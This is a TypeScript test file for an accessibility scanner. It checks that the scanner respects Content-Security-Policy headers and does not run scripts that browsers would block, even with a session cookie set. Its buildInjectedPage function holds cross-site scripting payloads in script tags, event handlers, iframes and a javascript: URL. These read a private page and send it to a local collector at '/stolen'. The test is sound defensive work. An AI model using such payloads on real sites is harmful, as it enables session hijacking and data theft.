import type { IncomingMessage, ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PageResult } from '../../../core/scans/page-result.ts';
import { listNodes, page, type Site, scan, serve } from './harness.ts';

const ATTACK = '/attack';
let site: Site;
/** Receives what an injected script reads. */
let collector: Site;
/** Whether `/private` was requested with the cookie of the credentials. */
let readPrivately: boolean;

/** Policies of pages. None of them changes what a page without scripts and styles shows. */
const policies = {
  none: undefined,
  'no scripts': "script-src 'none'",
  'nothing of other origins': "default-src 'self'; img-src data:",
  nothing: "default-src 'none'; frame-src 'self'; img-src data:; base-uri 'none'; form-action 'none'",
  'trusted types': "require-trusted-types-for 'script'; trusted-types 'none'",
  sandbox: 'sandbox',
  'sandbox with scripts': "sandbox allow-scripts allow-same-origin; script-src 'nonce-abc'",
} as const;

const IMAGE = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
const faults = page(
  `<img src="${IMAGE}" width="80" height="40"><button></button><label>Name <input></label><input><a href="/x">x</a>
   <font color="#cccccc">Faint</font><iframe title="inner" src="/inner"></iframe>
   <p lang="zz">Text</p><table><tr><td>1</td></tr></table>`,
);

/** Tries in every way to run a script that reads a private page and sends it to the collector. */
function buildInjectedPage(): string {
  const read = `fetch('/private').then((answer) => answer.text()).then((text) => {
    document.title = text; new Image().src = '${collector.url('/stolen')}?' + text; });`;
  return page(
    `<p>A comment: <script>${read}</script><img src="/missing.png" alt="" onerror="${read.replaceAll('"', '&quot;')}">
     <svg onload="${read.replaceAll('"', '&quot;')}"><title>x</title></svg>
     <script src="${collector.url('/script.js')}"></script>
     <iframe title="a" srcdoc="<script>parent.document.title = 'framed'; ${read.replaceAll('"', '&quot;')}</script>"></iframe>
     <iframe title="b" src="javascript:parent.eval(${JSON.stringify(read).replaceAll('"', '&quot;')})"></iframe>
     <object data="${collector.url('/object')}"></object></p>`,
    `<link rel="modulepreload" href="${collector.url('/module.js')}"><base href="${collector.url('/')}">`,
  );
}

beforeAll(async () => {
  collector = await serve({ '/script.js': (_, response) => response.end('document.title = "external"') });
  const protect =
    (body: () => string, policy: string | undefined) => (_: IncomingMessage, response: ServerResponse) => {
      response.writeHead(200, {
        'Content-Type': 'text/html; charset=utf-8',
        ...(policy === undefined ? {} : { 'Content-Security-Policy': policy }),
      });
      response.end(body());
    };
  site = await serve({
    '/inner': protect(() => page('<img src="inner.png"><button></button>'), "default-src 'none'; sandbox"),
    '/private': (request, response) => {
      readPrivately ||= request.headers.cookie === 'session=secret-session';
      response.end('private-text');
    },
    [ATTACK]: protect(buildInjectedPage, "default-src 'self'; base-uri 'none'; object-src 'none'"),
    '/meta': protect(
      () =>
        buildInjectedPage().replace(
          '<head>',
          `<head><meta http-equiv="Content-Security-Policy" content="default-src 'self'; base-uri 'none'; object-src 'none'">`,
        ),
      undefined,
    ),
    '/allowed': protect(
      () => page(`<div id="out"></div><script nonce="abc">out.innerHTML = '<button></button>'</script>`),
      "script-src 'nonce-abc'",
    ),
    ...Object.fromEntries(
      Object.entries(policies).map(([name, policy]) => [
        `/${encodeURIComponent(name)}`,
        protect(() => faults, policy),
      ]),
    ),
  });
});
afterAll(async () => {
  await site?.close();
  await collector?.close();
});

describe('a page with a Content-Security-Policy', () => {
  let results: PageResult[];
  let pictures: Map<string, Uint8Array>;

  beforeAll(async () => {
    ({ results, pictures } = await scan(
      Object.keys(policies).map((name) => site.url(`/${encodeURIComponent(name)}`)),
      {
        ruleIds: [
          'image-alt',
          'button-name',
          'label',
          'color-contrast',
          'valid-lang',
          'region',
          'frame-title',
          'link-name',
          'target-size',
        ],
        settings: { screenshots: 'all' },
        identity: () => '/same',
      },
    ));
  });

  it.each(Object.keys(policies).map((name, index) => [name, index] as const))(
    'has the findings, rule results and pictures of the same page without one: %s',
    (_, index) => {
      const [plain] = results;
      const result = results[index];
      expect(listNodes(plain).sort()).toEqual([
        'button-name ["button"]',
        'button-name ["iframe","button"]',
        'color-contrast ["font"]',
        'image-alt ["iframe","img"]',
        'image-alt ["img"]',
        'label ["main > input"]',
        'valid-lang ["p"]',
      ]);
      const { outcome, detail, settled, rules, findings, framesNotScanned, markups } = result ?? {};
      expect({ outcome, detail, settled, rules, findings, framesNotScanned, markups }).toEqual({
        outcome: 'scanned',
        detail: 'The page was scanned.',
        settled: true,
        rules: plain?.rules,
        findings: plain?.findings,
        framesNotScanned: [],
        markups: plain?.markups,
      });
      expect(pictures.size).toBeGreaterThan(0);
    },
  );

  it('runs the scripts that its policy allows', async () => {
    const { results } = await scan([site.url('/allowed')]);
    expect(listNodes(results[0])).toEqual(['button-name ["button"]']);
  });

  it.each([ATTACK, '/meta'])(
    'does not run a script that the browsers of users block, also if signed in: %s',
    async (path) => {
      readPrivately = false;
      const before = site.requests.length;
      const { results } = await scan([site.url(path)], {
        credentials: {
          origin: new URL(site.url('/')).origin,
          headers: {},
          cookies: [{ name: 'session', value: 'secret-session', path: '/', httpOnly: false }],
          basic: null,
        },
      });
      expect(results[0]).toMatchObject({ title: 'A page' });
      expect(site.requests.slice(before)).toContain(path);
      expect(site.requests.slice(before)).not.toContain('/private');
      expect(collector.requests).toEqual([]);
      expect(readPrivately).toBe(false);
    },
  );
});
